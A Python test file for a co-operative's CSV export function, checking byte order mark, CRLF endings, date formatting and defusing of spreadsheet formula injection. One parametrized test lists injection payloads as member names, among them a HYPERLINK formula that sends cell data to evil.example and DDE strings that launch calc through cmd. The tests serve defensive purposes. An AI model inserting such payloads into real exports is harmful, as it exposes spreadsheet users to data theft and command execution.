"""CSV exports: Excel-friendly bytes, and no formula can ride in on a member's name."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from coop.infra.documents.csv_files import csv_bytes

HEADER = ["Membership number", "Name", "Shares", "Amount paid", "Date entered", "Date ceased"]


def read_back(data: bytes) -> list[list[str]]:
    """The cells as a spreadsheet importing UTF-8 CSV would see them."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_file_starts_with_a_byte_order_mark_so_excel_reads_utf8() -> None:
    data = csv_bytes(HEADER, [[1, "Łukasz Wójcik", 1, Decimal("1.00"), date(2026, 3, 4), None]])

    assert data.startswith(b"\xef\xbb\xbf")
    assert "Łukasz Wójcik".encode() in data


def test_lines_end_with_crlf() -> None:
    data = csv_bytes(["Name"], [["Amira Hassan"], ["Dafydd Ŵyn"]])

    assert data.removeprefix(b"\xef\xbb\xbf") == "Name\r\nAmira Hassan\r\nDafydd Ŵyn\r\n".encode()


def test_values_are_written_plainly() -> None:
    data = csv_bytes(
        HEADER,
        [
            [7, "Zoë Ní Bhriain", 1, Decimal("1.00"), date(2026, 3, 4), None],
            [8, "Amira Hassan", 2, Decimal("2E+1"), date(2025, 12, 1), date(2026, 6, 30)],
        ],
    )

    assert read_back(data) == [
        HEADER,
        ["7", "Zoë Ní Bhriain", "1", "1.00", "2026-03-04", ""],
        ["8", "Amira Hassan", "2", "20", "2025-12-01", "2026-06-30"],
    ]


def test_a_datetime_is_written_in_iso_format() -> None:
    data = csv_bytes(["Admitted at"], [[datetime(2026, 3, 4, 9, 30, tzinfo=UTC)]])

    assert read_back(data)[1] == ["2026-03-04T09:30:00+00:00"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your share")',
        "+44 113 496 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(name: str) -> None:
    data = csv_bytes(["Name"], [[name]])

    assert read_back(data)[1] == ["'" + name]


def test_a_header_is_defused_too() -> None:
    assert read_back(csv_bytes(["=cmd"], []))[0] == ["'=cmd"]


def test_ordinary_text_and_numbers_we_made_are_left_alone() -> None:
    data = csv_bytes(
        ["Name", "Address", "Balance"],
        [
            ["Łukasz Wójcik", "Flat 2, 14 Roundhay Road\nLeeds", Decimal("-1.50")],
            ["Siân O'Neill", 'The "Old" Mill', -3],
        ],
    )

    assert read_back(data)[1:] == [
        ["Łukasz Wójcik", "Flat 2, 14 Roundhay Road\nLeeds", "-1.50"],
        ["Siân O'Neill", 'The "Old" Mill', "-3"],
    ]
